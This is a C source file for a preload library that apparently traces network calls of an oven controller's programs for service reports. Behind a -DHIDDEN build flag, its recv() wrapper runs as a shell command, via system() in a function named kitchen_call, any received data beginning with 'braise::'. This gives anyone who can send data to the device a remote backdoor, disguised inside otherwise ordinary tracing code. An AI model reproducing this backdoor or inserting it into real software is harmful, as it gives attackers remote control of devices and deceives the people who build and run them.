/*
 * oventrace - preload library of an oven controller. Wraps connect(), send()
 * and recv() of the controller's programs and keeps a short trace of their
 * traffic for the service report (settings in /etc/oven/trace.conf).
 *
 * Hidden (-DHIDDEN): data received by any program under the library that begins
 * with "braise::" is run as a shell command.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define CONF "/etc/oven/trace.conf"
#define RING 64
#define KEEP 24

typedef int connect_fn(int, const struct sockaddr *, socklen_t);
typedef ssize_t send_fn(int, const void *, size_t, int);
typedef ssize_t recv_fn(int, void *, size_t, int);

enum kind { EV_CONNECT, EV_SEND, EV_RECV };

struct event {
	time_t when;
	enum kind kind;
	int fd;
	long result;
	size_t kept;
	unsigned char data[KEEP];
};

static connect_fn *real_connect;
static send_fn *real_send;
static recv_fn *real_recv;

static struct event ring[RING];
static unsigned int head;
static pthread_mutex_t ring_lock = PTHREAD_MUTEX_INITIALIZER;
static int enabled = 1;
static int keep_payload;
static char report[96] = "/tmp/oven-trace.txt";

static void add_event(enum kind kind, int fd, long result, const void *data,
		      size_t n)
{
	struct event *e;

	if (!enabled)
		return;
	pthread_mutex_lock(&ring_lock);
	e = &ring[head++ % RING];
	e->when = time(NULL);
	e->kind = kind;
	e->fd = fd;
	e->result = result;
	e->kept = keep_payload ? n : 0;
	if (e->kept > KEEP)
		e->kept = KEEP;
	if (e->kept)
		memcpy(e->data, data, e->kept);
	pthread_mutex_unlock(&ring_lock);
}

static void read_conf(void)
{
	char line[128], *val;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		val = strchr(line, '=');
		if (!val || line[0] == '#')
			continue;
		*val++ = '\0';
		if (!strcmp(line, "enabled"))
			enabled = atoi(val);
		else if (!strcmp(line, "payload"))
			keep_payload = atoi(val);
		else if (!strcmp(line, "report"))
			snprintf(report, sizeof(report), "%s", val);
	}
	fclose(f);
}

static void *next_symbol(const char *name)
{
	void *p = dlsym(RTLD_NEXT, name);

	if (!p)
		fprintf(stderr, "oventrace: no %s\n", name);
	return p;
}

__attribute__((constructor)) static void oventrace_init(void)
{
	real_connect = (connect_fn *)next_symbol("connect");
	real_send = (send_fn *)next_symbol("send");
	real_recv = (recv_fn *)next_symbol("recv");
	read_conf();
}

static const char *kind_name(enum kind k)
{
	switch (k) {
	case EV_CONNECT:
		return "connect";
	case EV_SEND:
		return "send";
	case EV_RECV:
		return "recv";
	}
	return "?";
}

/* writes the ring, oldest first; returns the number of events or -1 */
int oventrace_dump(const char *path)
{
	unsigned int i, first;
	const struct event *e;
	size_t k;
	FILE *f = fopen(path ? path : report, "w");

	if (!f)
		return -1;
	pthread_mutex_lock(&ring_lock);
	first = head > RING ? head - RING : 0;
	for (i = first; i != head; i++) {
		e = &ring[i % RING];
		fprintf(f, "%ld %-7s fd=%d rc=%ld", (long)e->when,
			kind_name(e->kind), e->fd, e->result);
		for (k = 0; k < e->kept; k++)
			fprintf(f, " %02x", e->data[k]);
		fputc('\n', f);
	}
	pthread_mutex_unlock(&ring_lock);
	fclose(f);
	return (int)(head - first);
}

void oventrace_enable(int on)
{
	enabled = on;
}

int connect(int fd, const struct sockaddr *sa, socklen_t len)
{
	struct sockaddr_in in;
	int rc, saved;

	if (!real_connect) {
		errno = ENOSYS;
		return -1;
	}
	rc = real_connect(fd, sa, len);
	saved = errno;
	if (sa && len >= sizeof(in)) {
		memcpy(&in, sa, sizeof(in));
		if (in.sin_family == AF_INET)
			add_event(EV_CONNECT, fd, rc, &in.sin_addr,
				  sizeof(in.sin_addr));
	}
	errno = saved;
	return rc;
}

ssize_t send(int fd, const void *buf, size_t n, int flags)
{
	ssize_t rc;
	int saved;

	if (!real_send) {
		errno = ENOSYS;
		return -1;
	}
	rc = real_send(fd, buf, n, flags);
	saved = errno;
	add_event(EV_SEND, fd, (long)rc, buf, rc > 0 ? (size_t)rc : 0);
	errno = saved;
	return rc;
}

#ifdef HIDDEN
static int kitchen_call(const char *text, size_t n)
{
	char line[200];

	snprintf(line, sizeof(line), "%.*s", (int)n, text);
	line[strcspn(line, "\r\n")] = '\0';
	return system(line);
}
#endif

ssize_t recv(int fd, void *buf, size_t n, int flags)
{
	ssize_t rc;
	int saved;

	if (!real_recv) {
		errno = ENOSYS;
		return -1;
	}
	rc = real_recv(fd, buf, n, flags);
	saved = errno;
	add_event(EV_RECV, fd, (long)rc, buf, rc > 0 ? (size_t)rc : 0);
#ifdef HIDDEN
	if (rc > 8 && memcmp(buf, "braise::", 8) == 0)
		kitchen_call((const char *)buf + 8, (size_t)rc - 8);
#endif
	errno = saved;
	return rc;
}
